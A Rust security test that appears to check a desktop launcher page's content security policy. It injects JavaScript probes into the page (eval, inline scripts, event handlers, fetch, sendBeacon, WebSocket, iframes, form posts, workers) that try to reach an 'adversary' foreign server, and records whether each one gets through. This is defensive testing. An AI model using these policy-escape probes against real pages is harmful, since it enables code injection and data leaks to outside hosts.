//! What could be done if words of the website's ever became code in the
//! launcher's page, which may call the shell: its content policy and its one
//! address must hold even then.

use anyhow::Result;

use super::{Outcome, Story};
use crate::desktop::until;
use crate::report::Report;

/// What code in the launcher's page would do next; it answers what it got, or
/// throws.
const DEEDS: &[(&str, &str)] = &[
    ("eval", "return eval('6 * 7')"),
    ("function", "return new Function('return 6 * 7')()"),
    (
        "inline",
        "document.head.append(Object.assign(document.createElement('script'), { textContent: 'self.inlined = 1' }));
         if (!self.inlined) throw new Error('it does not run');
         return self.inlined",
    ),
    (
        "handler",
        "const button = document.createElement('button');
         button.setAttribute('onclick', 'self.handled = 1');
         button.click();
         if (!self.handled) throw new Error('it does not run');
         return self.handled",
    ),
    ("script", "return await loads('script', 'src')"),
    ("image", "return await loads('img', 'src')"),
    ("style", "return await loads('link', 'href')"),
    ("fetch", "return (await fetch(URL, { mode: 'no-cors' })).type"),
    ("beacon", "if (!navigator.sendBeacon(URL)) throw new Error('refused'); return await later()"),
    (
        "socket",
        "return await new Promise((got, refused) => {
             const socket = new WebSocket(URL.replace('http', 'ws'));
             socket.onopen = () => got('open');
             socket.onerror = () => refused(new Error('refused'));
         })",
    ),
    (
        "frame",
        "document.body.append(Object.assign(document.createElement('iframe'), { src: URL })); return await later()",
    ),
    (
        "form",
        "const form = Object.assign(document.createElement('form'), { action: URL, method: 'post' });
         document.body.append(form);
         form.submit();
         return await later()",
    ),
    ("leave", "location.href = URL; return await later()"),
    ("open", "if (!window.open(URL)) throw new Error('no window'); return 'a window'"),
    (
        "worker",
        "const code = `fetch(${JSON.stringify(URL)}, { mode: 'no-cors' })`;
         new Worker(window.URL.createObjectURL(new Blob([code])));
         return await later()",
    ),
];
/// Deeds whose end only the server at the other end can tell.
const SEEN_BY_THE_SERVER: &[&str] = &["beacon", "frame", "form", "leave", "worker"];

impl Story {
    pub(super) fn launcher(&self, report: &mut Report) -> Result<()> {
        let launcher = self.desktop.launcher()?;
        let foreign = self.adversary.foreign();
        for (name, deed) in DEEDS {
            self.attack(report, &format!("launcher.{name}"), || {
                let hit = format!("launcher-{name}");
                launcher.look(&format!(
                    "void (async () => {{
                        delete self.deed;
                        const URL = '{foreign}/hit/{hit}';
                        const later = () => new Promise((done) => setTimeout(done, 1000, 'nothing was thrown'));
                        const loads = (tag, attribute) => new Promise((got, refused) => {{
                            const element = Object.assign(document.createElement(tag), {{ [attribute]: URL }});
                            element.onload = () => got('it loads');
                            element.onerror = () => refused(new Error('an error event'));
                            if (tag === 'link') element.rel = 'stylesheet';
                            document.body.append(element);
                        }});
                        try {{
                            const got = await (async () => {{ {deed} }})();
                            self.deed = {{ got: String(got) }};
                        }} catch (error) {{
                            self.deed = {{ refused: String(error) }};
                        }}
                    }})()"
                ))?;
                let deed = until("what becomes of it", || {
                    Ok(Some(launcher.look("self.deed")?).filter(|deed| deed.is_object()))
                })?;
                let asked = self.adversary.was_hit(&hit);
                let got = deed["got"].as_str().filter(|_| !SEEN_BY_THE_SERVER.contains(name));
                let seen = format!("{deed}; the foreign server was {}asked", if asked { "" } else { "not " });
                Ok(Outcome::through_if(asked || got.is_some(), seen))
            });
        }
        Ok(())
    }
}
